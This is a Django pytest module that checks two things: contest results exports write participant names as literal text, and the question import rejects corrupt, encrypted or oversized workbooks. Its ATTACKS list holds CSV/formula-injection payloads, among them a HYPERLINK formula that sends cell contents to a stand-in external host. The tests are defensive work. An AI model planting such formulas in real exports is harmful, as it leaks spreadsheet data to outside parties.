"""Issue 13: contest exports keep participants' text as text; the question import refuses bad files."""

from __future__ import annotations

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from khoi.contests import services
from khoi.contests.models import Entry, Question
from khoi.core.tests import bad_workbooks

ATTACKS = ['=HYPERLINK("http://x.example/?p="&C4&C5&C6,"Xem giải thưởng")', "+1", "-1", "@A1", "\tLan"]
MESSAGES = {
    "blank rows": "Đã nhập",  # a header and nothing else: nothing to import, nothing written
    "no sheet": "không có trang tính",
    "encrypted": "mật khẩu",
    "corrupt": "hoặc đã bị hỏng",
}


def _post(client, content):
    return client.post(reverse("contests:questions_import"), {"file": SimpleUploadedFile("q.xlsx", content)})


@pytest.mark.parametrize("kind", sorted(bad_workbooks.BAD_FILES))
def test_a_bad_question_file_gets_a_vietnamese_message_and_imports_nothing(propaganda_client, bank, kind):
    before = Question.objects.count()
    response = _post(propaganda_client, bad_workbooks.BAD_FILES[kind]())
    if kind != "blank rows":
        assert response.status_code == 400
        assert MESSAGES[kind] in response.content.decode()
    assert Question.objects.count() == before


def test_a_question_file_over_the_size_limit_is_refused(propaganda_client, bank, settings):
    settings.KHOI_UPLOAD_MAX_BYTES = 2000
    before = Question.objects.count()
    response = _post(propaganda_client, bad_workbooks.over_size(2000))
    assert response.status_code == 400 and "lớn hơn" in response.content.decode()
    assert Question.objects.count() == before


def test_a_question_file_with_an_uncomputed_formula_is_refused_by_its_cell(propaganda_client, bank):
    topic = bank.topics[0].name
    content = bad_workbooks.formula_without_value(
        [["Số", "Chủ đề"], [None, topic, "Một đáp án", "=A1", "a", "b", "c", "d", "A", "", "Dễ", "Có"]]
    )
    before = Question.objects.count()
    response = _post(propaganda_client, content)
    assert "Ô D2 là công thức chưa có giá trị" in response.content.decode()
    assert Question.objects.count() == before


def _cells(content):
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("name", ATTACKS)
def test_both_results_exports_write_a_formula_like_name_as_the_text_typed(
    propaganda_client, client, contest, open_round, start_entry, name
):
    entry = start_entry()
    services.entry_submit(entry=entry)
    Entry.objects.filter(pk=entry.pk).update(name=name)
    open_round.closes_at = timezone.now()
    open_round.save()
    for url in (
        reverse("contests:contest_export", args=[contest.pk]),
        reverse("contests:results_export", args=[contest.slug]),
    ):
        response = (propaganda_client if "manage" in url else client).get(url)
        assert response.status_code == 200
        cells = _cells(response.content)
        assert not [cell for cell in cells if cell.data_type == "f"]
        assert name in [cell.value for cell in cells]


def test_control_characters_in_a_stored_name_do_not_break_the_exports(
    propaganda_client, client, contest, open_round, start_entry
):
    entry = start_entry()
    services.entry_submit(entry=entry)
    Entry.objects.filter(pk=entry.pk).update(name="Nguyễn\x01 Văn\x0b A")
    open_round.closes_at = timezone.now()
    open_round.save()
    staff = propaganda_client.get(reverse("contests:contest_export", args=[contest.pk]))
    public = client.get(reverse("contests:results_export", args=[contest.slug]))
    assert staff.status_code == public.status_code == 200
    assert "Nguyễn Văn A" in [cell.value for cell in _cells(staff.content)]
